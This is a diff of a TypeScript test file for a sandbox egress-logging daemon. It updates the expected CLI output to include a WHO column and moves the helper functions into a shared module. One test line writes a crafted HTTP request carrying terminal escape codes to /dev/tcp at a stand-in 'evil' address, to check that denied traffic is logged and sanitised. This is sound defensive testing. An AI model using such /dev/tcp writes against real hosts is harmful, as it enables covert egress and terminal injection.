@@ -13,6 +13,7 @@ import { openInternet } from "../internet.ts";
 import { startDaemonOn } from "../internet-daemon.ts";
 import { blockLength, evilAddress, otherAddress, webAddress, webAddress6 } from "../internet-names.ts";
 import { type AnySandbox, accessTo, createUnder, type Policy, raw, sdks } from "./clients.ts";
+import { egressPage, lineWith } from "./egress-lines.ts";
 
 const { Sandbox } = sdks["3.5.0"];
 const secret = `secret-${randomBytes(16).toString("hex")}`;
@@ -89,10 +90,16 @@ describe("a program that is refused can act on it, and its owner sees why", () =
     await run(sandbox, `printf 'GET /\\033[2J\\302\\233 HTTP/1.0\\r\\n\\r\\n' > /dev/tcp/${evilAddress}/81 && true`);
     await seen(sandbox, { port: 81, protocol: "http" });
     const { stdout } = await cli(sandbox.name);
-    expect(stdout).toMatch(/^TIME +VERDICT +WHERE +WHAT +IN +OUT +WHY\n/);
-    expect(stdout).toMatch(/ (allowed|closed) +web\.test:443 +tls +[\d.]+ kB +\d+ bytes +allow web\.test\n/);
-    expect(stdout).toMatch(/ denied +other\.test +dns A +the policy does not allow "other\.test"\n/);
-    expect(stdout).toMatch(/ GET \/path +the policy does not allow 93\.184\.216\.66: plain HTTP/);
+    expect(stdout).toMatch(/^TIME +VERDICT +WHERE +WHAT +IN +OUT +WHO +WHY\n/);
+    expect(stdout).toMatch(
+      / (allowed|closed) +web\.test:443 +tls +[\d.]+ kB +\d+ bytes +(curl cmd_[0-9a-f]{8} +)?allow web\.test\n/,
+    );
+    expect(stdout).toMatch(
+      / denied +other\.test +dns A +(curl cmd_[0-9a-f]{8} +)?the policy does not allow "other\.test"\n/,
+    );
+    expect(stdout).toMatch(
+      / GET \/path +(curl cmd_[0-9a-f]{8} +)?the policy does not allow 93\.184\.216\.66: plain HTTP/,
+    );
     expect(stdout).toMatch(/\nHOST +CONNECTIONS +IN +OUT\nweb\.test +1 /);
     expect(stdout).toContain("\\u001b[2J");
     // biome-ignore lint/suspicious/noControlCharactersInRegex: that there is none is the point
@@ -333,12 +340,8 @@ async function sessionOf(sandbox: AnySandbox): Promise<string> {
   return (await raw(daemon, "GET", `/v2/sandboxes/${sandbox.name}`)).json.session.id;
 }
 
-/** of a session, or of a sandbox's last one */
-async function page(of: AnySandbox | string, query = "?limit=1000") {
-  const path = typeof of === "string" ? `sessions/${of}` : `sandboxes/${of.name}`;
-  const answer = await raw(daemon, "GET", `/sandkeep/v1/${path}/egress${query}`);
-  expect(answer.status).toBe(200);
-  return answer.json;
+function page(of: AnySandbox | string, query?: string) {
+  return egressPage(daemon, of, query);
 }
 
 interface Line {
@@ -359,14 +362,8 @@ async function wholeLog(sandbox: AnySandbox): Promise<{ events: Line[] }> {
   return { events };
 }
 
-/** the first line with these fields, once there is one */
 function seen(sandbox: AnySandbox, fields: Record<string, unknown>) {
-  return eventually(`a line with ${JSON.stringify(fields)}`, async () => {
-    const { events } = await page(sandbox);
-    return events.find((event: Record<string, unknown>) =>
-      Object.entries(fields).every(([key, value]) => event[key] === value),
-    );
-  });
+  return lineWith(daemon, sandbox, fields);
 }
 
 const execute = promisify(execFile);
